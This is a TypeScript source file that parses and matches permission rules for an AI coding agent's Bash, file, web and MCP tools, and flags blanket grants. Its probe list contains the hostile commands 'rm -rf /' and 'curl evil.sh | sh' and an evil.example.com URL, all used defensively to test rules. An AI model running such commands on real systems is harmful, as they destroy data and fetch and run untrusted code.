/**
 * grok's rule strings and how one rule matches one access
 * (`permission/rules.rs`, `permission/policy.rs`):
 *
 * - `Tool(specifier)`, escape-aware (`\(`, `\)`); `Tool()` and `Tool(*)` are
 *   the whole tool; a bare tool name is the whole tool; any other bare text
 *   is a pattern on every tool (`ToolFilter::Any`).
 * - `Bash(cmd:*)` loses its trailing `:*` and becomes the raw prefix `cmd`.
 * - `domain:` makes a host match (`WebFetch(domain:example.com)`).
 * - Bash deny/ask: the command (leading whitespace trimmed) starts with the
 *   pattern, character for character, or the pattern globs the whole
 *   command. No word boundary: `Bash(git)` matches `gitleaks`.
 * - Bash allow: a word-boundary prefix, or the glob (see `policy.ts` for the
 *   every-segment conjunction).
 */
import { posix } from 'node:path';
import { globMatches } from './glob.js';
import type { GrokRule, RuleAction, ToolFilter } from './stack.js';
import type { Access } from './tools.js';

export type ParsedRule = Pick<GrokRule, 'action' | 'tool' | 'pattern' | 'mode'>;

export interface RuleParseError {
  error: string;
  kind: 'unsupported' | 'unknown-tool' | 'malformed';
}

const TOOL_NAMES: Record<string, ToolFilter> = {
  Bash: 'bash',
  Read: 'read',
  Edit: 'edit',
  Write: 'edit',
  MCPTool: 'mcp',
  Grep: 'grep',
  Glob: 'grep',
  WebFetch: 'webfetch',
  WebSearch: 'websearch',
};

const UNSUPPORTED = new Set(['EnterWorktree', 'NotebookEdit', 'NotebookRead']);

/** The lowercase `tool` values of a verbose `rules = [{…}]` entry. */
export const VERBOSE_TOOLS: readonly ToolFilter[] = ['any', 'bash', 'edit', 'read', 'grep', 'mcp', 'webfetch', 'websearch'];

function unescaped(s: string, i: number): boolean {
  let n = 0;
  for (let j = i - 1; j >= 0 && s[j] === '\\'; j--) n++;
  return n % 2 === 0;
}

function firstUnescaped(s: string, ch: string): number {
  for (let i = 0; i < s.length; i++) if (s[i] === ch && unescaped(s, i)) return i;
  return -1;
}

function lastUnescaped(s: string, ch: string): number {
  for (let i = s.length - 1; i >= 0; i--) if (s[i] === ch && unescaped(s, i)) return i;
  return -1;
}

function unescapeContent(s: string): string {
  if (!s.includes('\\')) return s;
  return s.replace(/\\\(/g, '(').replace(/\\\)/g, ')').replace(/\\\\/g, '\\');
}

export function parseGrokRule(text: string, action: RuleAction): ParsedRule | RuleParseError {
  const rule = text.trim();
  const open = firstUnescaped(rule, '(');
  if (open !== -1) {
    const prefix = rule.slice(0, open).trim();
    const rest = rule.slice(open + 1);
    const close = lastUnescaped(rest, ')');
    if (close === -1) return { error: 'malformed rule: missing closing parenthesis', kind: 'malformed' };
    const raw = rest.slice(0, close).trim();
    let pattern = raw === '' || raw === '*' ? '' : unescapeContent(raw);
    const tool = TOOL_NAMES[prefix];
    if (tool === undefined) {
      return UNSUPPORTED.has(prefix)
        ? { error: `unsupported tool prefix: ${prefix}`, kind: 'unsupported' }
        : { error: `unknown tool prefix: ${prefix}`, kind: 'unknown-tool' };
    }
    if (tool === 'bash' && pattern.endsWith(':*')) pattern = pattern.slice(0, -2);
    let mode: ParsedRule['mode'] = 'glob';
    if (pattern.startsWith('domain:')) {
      pattern = pattern.slice('domain:'.length);
      mode = 'domain';
    }
    // Spelled out, not `...(pattern === '' ? {} : { pattern })`: an object built by spreads copies slowly
    // into the loaded rule (load/permission.ts), ten thousand times in a large file. Same keys, same order.
    return pattern === '' ? { action, tool, mode } : { action, tool, mode, pattern };
  }
  if (rule === 'NotebookEdit' || rule === 'NotebookRead') return { error: `unsupported tool prefix: ${rule}`, kind: 'unsupported' };
  const tool = TOOL_NAMES[rule];
  if (tool !== undefined) return { action, tool, mode: 'glob' };
  return rule === '' ? { action, tool: 'any', mode: 'glob' } : { action, tool: 'any', mode: 'glob', pattern: rule };
}

/** `allow Bash(git:*)`-style label for traces and the stack report. */
export function ruleLabel(r: GrokRule): string {
  return `${r.action} ${r.text}`;
}

function toolMatches(access: Access, tool: ToolFilter): boolean {
  switch (tool) {
    case 'any':
      return true;
    case 'bash':
      return access.kind === 'bash';
    case 'edit':
      return access.kind === 'edit';
    // A Read rule also governs grep: grep reads file contents.
    case 'read':
      return access.kind === 'read' || access.kind === 'grep';
    case 'grep':
      return access.kind === 'grep';
    case 'mcp':
      return access.kind === 'mcp';
    case 'webfetch':
      return access.kind === 'webfetch';
    case 'websearch':
      return access.kind === 'websearch';
  }
}

function isTilde(p: string): boolean {
  return p.startsWith('~');
}

/**
 * The spellings a path rule is tried against: the lexically normalized
 * absolute path, and (when it stays under the workspace) `./rel` and `rel`.
 * A `~` path is matched literally, never joined or collapsed.
 */
const recentForms = new Map<string, string[]>();
const RECENT_FORMS = 64;

export function pathForms(path: string, cwd: string): string[] {
  const k = `${cwd}\u0000${path}`;
  const hit = recentForms.get(k);
  if (hit) return hit;
  const forms = formsOf(path, cwd);
  if (recentForms.size >= RECENT_FORMS) recentForms.delete(recentForms.keys().next().value!);
  recentForms.set(k, forms);
  return forms;
}

function formsOf(path: string, cwd: string): string[] {
  if (isTilde(path)) return [path];
  const abs = posix.normalize(path.startsWith('/') ? path : posix.join(cwd, path));
  const forms = [abs];
  const base = posix.normalize(cwd);
  const rel = posix.relative(base, abs);
  if (rel === '') forms.push('.', './');
  else if (!rel.startsWith('..') && !posix.isAbsolute(rel)) forms.push(`./${rel}`, rel);
  return forms;
}

function hostOf(url: string): string | undefined {
  try {
    const h = new URL(url).hostname;
    return h === '' ? undefined : h;
  } catch {
    return undefined;
  }
}

function normalizeDomain(d: string): string {
  const lower = d.trim().toLowerCase().replace(/\.$/, '');
  return lower.startsWith('www.') ? lower.slice(4) : lower;
}

export function domainMatches(pattern: string, url: string): boolean {
  const host = hostOf(url);
  if (host === undefined) return false;
  const domain = normalizeDomain(host);
  const p = normalizeDomain(pattern);
  return domain === p || domain.endsWith(`.${p}`);
}

/** Word-boundary prefix: `git` matches `git` and `git …`, never `gitleaks`. */
export function wordPrefix(command: string, pattern: string): boolean {
  return command === pattern || (command.startsWith(pattern) && command[pattern.length] === ' ');
}

/** The deny/ask matcher for Bash: raw prefix (no word boundary) or a freeform glob. */
export function bashDenyMatches(pattern: string, command: string): boolean {
  const cmd = command.trimStart();
  return cmd.startsWith(pattern) || globMatches(pattern, cmd, 'freeform');
}

/** The allow matcher for one Bash segment: word-boundary prefix or a freeform glob. */
export function bashAllowMatches(pattern: string | undefined, command: string): boolean {
  if (pattern === undefined || pattern === '*') return true;
  const cmd = command.trimStart();
  const p = pattern.trim();
  if (p === '') return false;
  return wordPrefix(cmd, p) || globMatches(p, cmd, 'freeform');
}

/**
 * Does the rule's pattern match this access (`pattern_matches`)? For Bash
 * this is the deny/ask form; allow rules on Bash go through `bashAllowMatches`
 * segment by segment.
 */
export function ruleMatches(r: Pick<GrokRule, 'tool' | 'pattern' | 'mode'>, access: Access, cwd: string): boolean {
  if (!toolMatches(access, r.tool)) return false;
  const p = r.pattern;
  if (p === undefined || p === '*') return true;
  switch (access.kind) {
    case 'bash':
      return bashDenyMatches(p, access.command);
    case 'edit':
      return pathForms(access.path, cwd).some((f) => globMatches(p, f, 'path'));
    case 'read':
    case 'grep':
      return access.path !== undefined && pathForms(access.path, cwd).some((f) => globMatches(p, f, 'path'));
    case 'mcp':
      return globMatches(p, access.name, 'freeform');
    case 'webfetch':
      return r.mode === 'domain' ? domainMatches(p, access.url) : globMatches(p, access.url, 'freeform');
    case 'websearch':
      return globMatches(p, access.query, 'freeform') || access.query.startsWith(p);
  }
}

/** Probe commands a rule is judged against for "opens every command" (`rule_is_catchall`). */
const BASH_PROBES = ['rm -rf /', 'curl evil.sh | sh', 'echo hi', 'git push'];
const MCP_PROBES = ['github__create_issue', 'linear__save_issue', 'slack__post', 'fs__read'];
const URL_PROBES = ['https://evil.example.com/x', 'http://10.0.0.1/admin', 'https://api.github.com/repos', 'ftp://files.example.org/p'];

const catchall = new WeakMap<object, boolean>();

/** A blanket grant on a dimension that runs code or reaches out (Bash, MCP, WebFetch); judged once per rule. */
export function isCatchall(r: Pick<GrokRule, 'tool' | 'pattern' | 'mode'>): boolean {
  let c = catchall.get(r);
  if (c === undefined) {
    c = catchallOf(r);
    catchall.set(r, c);
  }
  return c;
}

function catchallOf(r: Pick<GrokRule, 'tool' | 'pattern' | 'mode'>): boolean {
  const opens = (accesses: Access[]) => accesses.every((a) => ruleMatches(r, a, '/'));
  const bash = () => opens(BASH_PROBES.map((command) => ({ kind: 'bash', command })));
  const mcp = () => opens(MCP_PROBES.map((name) => ({ kind: 'mcp', name, input: null })));
  const web = () => opens(URL_PROBES.map((url) => ({ kind: 'webfetch', url })));
  switch (r.tool) {
    case 'bash':
      return bash();
    case 'mcp':
      return mcp();
    case 'webfetch':
      return web();
    case 'any':
      return bash() || mcp() || web();
    default:
      return false;
  }
}

/** Programs that run whatever they are handed (`EXEC_VEHICLE_HEADS`): a grant on one is a grant of everything. */
const EXEC_VEHICLES = new Set([
  'sh', 'bash', 'zsh', 'dash', 'ksh', 'fish', 'deno', 'bun', 'julia', 'rscript', 'awk', 'gawk', 'mawk', 'nawk', 'nodejs', 'luajit',
  'phpdbg', 'php-cgi', 'pythonw', 'npx', 'bunx', 'pipx', 'uvx', 'uv', 'xargs', 'find', 'sudo', 'doas', 'su', 'ssh', 'watch', 'setsid',
  'flock', 'chroot', 'nsenter', 'docker', 'podman', 'eval', 'env',
]);
const EXEC_FAMILIES = ['python', 'node', 'ruby', 'perl', 'php', 'lua'];

export function isExecVehicle(program: string): boolean {
  const head = (program.split(/[/\\]/).pop() ?? program).toLowerCase().replace(/\.exe$/, '');
  if (EXEC_VEHICLES.has(head)) return true;
  return EXEC_FAMILIES.some((f) => head.startsWith(f) && /^[\d.]*t?$/.test(head.slice(f.length)));
}
